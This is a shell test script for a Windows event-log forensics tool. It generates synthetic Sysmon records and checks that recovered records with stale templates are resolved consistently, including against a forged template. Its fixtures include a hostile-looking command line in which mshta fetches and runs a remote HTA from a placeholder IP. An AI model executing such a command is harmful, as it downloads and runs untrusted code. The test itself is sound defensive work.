#!/bin/sh
# late-order.sh -- a recovered Sysmon 1 whose EventData template was
# overwritten in its own chunk is named from a definition in another file
# of the run (evtx_tpls, reader.h), and `evtxhunt dump` gives byte-for-byte
# the same output for -j1 / -j2 and for any order of the PATH arguments;
# alone, its file gives positional values marked template: unresolved.
# Also the tie-break of two definitions with one GUID (a forged template
# with Image and CommandLine swapped, in a file earlier in path order, and
# a genuine one in the record's own file): the record's own file wins.
set -u
. "$top_srcdir/tests/testlib.sh"
GEN=${top_builddir:?}/tests/evtxgen

sysmon1() {	# sysmon1 RECID PID IMAGE CMDLINE [template key]
	cat <<SPEC
provider sysmon
eventid 1
time 2024-03-05T09:00:$(printf %02d $(($1 % 60))).0000000Z
recordid $1
channel Microsoft-Windows-Sysmon/Operational
computer WKS01.corp.local
data RuleName=-
data UtcTime=2024-03-05 09:00:00.000
data ProcessGuid={A1B2C3D4-0054-DE90-0000-0000127952DC}
data ProcessId=$2
SPEC
	[ $# -lt 5 ] || echo "template-key $5"
	if [ "${6:-}" = swapped ]; then
		echo "data CommandLine=$3"
		echo "data Image=$4"
	else
		echo "data Image=$3"
		echo "data CommandLine=$4"
	fi
}
sysmon3() {	# sysmon3 RECID
	cat <<SPEC
provider sysmon
eventid 3
time 2024-03-05T09:00:40.0000000Z
recordid $1
channel Microsoft-Windows-Sysmon/Operational
computer WKS01.corp.local
data RuleName=-
data ProcessId=4
data Image=System
data Protocol=tcp
SPEC
}

# a.evtx: a Sysmon 1 (its template); b.evtx: a Sysmon 3, then in slack a
# Sysmon 1 whose EventData instance names a stale offset
{ echo record; sysmon1 10 9500 'C:\Windows\System32\cmd.exe' 'cmd.exe /c 1'
} >"$T/a.spec"
{ echo record; sysmon3 20
  echo record slack stale-template
  sysmon1 21 9512 'C:\Windows\System32\mshta.exe' 'mshta.exe http://198.51.100.23/3.hta'
} >"$T/b.spec"
mkdir "$T/in"
"$GEN" "$T/a.spec" "$T/in/a.evtx" && "$GEN" "$T/b.spec" "$T/in/b.evtx" ||
    fail "evtxgen"

recovered() {	# the recovered Sysmon 1 line of $T/out
	grep '"recovered":true' "$T/out" | grep '"event_id":1,' || true
}
expect 0 "dump b.evtx alone" "$EVTXHUNT" dump -f jsonl "$T/in/b.evtx"
recovered | grep -q '"template":"unresolved"' &&
    recovered | grep -q '"#5":"C:\\\\Windows\\\\System32\\\\mshta.exe"' &&
    ok "alone: positional, marked unresolved" ||
    fail "alone: not positional: $(recovered)"
expect 0 "dump -f csv b.evtx alone" "$EVTXHUNT" dump -f csv "$T/in/b.evtx"
"$PY" - "$T/out" <<'PYEOF' && ok "csv: template column says unresolved" ||
    fail "csv: no unresolved marker"
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="", encoding="utf-8")))
rec = [r for r in rows if r["recovered"] == "1"]
assert len(rec) == 1 and rec[0]["template"] == "unresolved", rec
assert all(r["template"] == "" for r in rows if r["recovered"] == "0")
PYEOF
expect 0 "dump -j1 a b" "$EVTXHUNT" dump -j 1 -f jsonl "$T/in/a.evtx" \
    "$T/in/b.evtx"
cp "$T/out" "$T/j1"
recovered | grep -q '"Image":"C:\\\\Windows\\\\System32\\\\mshta.exe"' &&
    ! recovered | grep -q unresolved &&
    ok "named from the other file's definition" ||
    fail "not named: $(recovered)"
expect 0 "dump -j2 b a" "$EVTXHUNT" dump -j 2 -f jsonl "$T/in/b.evtx" \
    "$T/in/a.evtx"
cmp -s "$T/j1" "$T/out" && ok "same output for -j2 and reversed paths" ||
    fail "output differs with -j2 and reversed paths"
expect 0 "dump -j2 directory" "$EVTXHUNT" dump -j 2 -f jsonl "$T/in"
cmp -s "$T/j1" "$T/out" && ok "same output for the directory" ||
    fail "output differs for the directory"

# tie-break: 0.evtx (first in path order) holds a forged definition with
# the GUID of the genuine one that 1.evtx holds in another chunk
{ echo record; sysmon1 30 9501 'x' 'y' k swapped
} >"$T/f.spec"
{ echo record; sysmon1 40 9502 'C:\Windows\System32\cmd.exe' 'cmd.exe /c 2' k
  echo record newchunk; sysmon3 41
  echo record slack stale-template
  sysmon1 42 9512 'C:\Windows\System32\mshta.exe' 'mshta.exe http://198.51.100.23/3.hta' k
} >"$T/g.spec"
mkdir "$T/tie"
"$GEN" "$T/f.spec" "$T/tie/0.evtx" && "$GEN" "$T/g.spec" "$T/tie/1.evtx" ||
    fail "evtxgen (tie-break)"
expect 0 "dump the tie-break files" "$EVTXHUNT" dump -f jsonl "$T/tie"
recovered | grep -q '"Image":"C:\\\\Windows\\\\System32\\\\mshta.exe"' &&
    ok "own file's definition before an earlier file's" ||
    fail "tie-break: $(recovered)"
cp "$T/out" "$T/tie1"
expect 0 "dump the tie-break files -j2, reversed" "$EVTXHUNT" dump -j 2 \
    -f jsonl "$T/tie/1.evtx" "$T/tie/0.evtx"
cmp -s "$T/tie1" "$T/out" && ok "tie-break: same for -j2, reversed" ||
    fail "tie-break: output differs"
finish
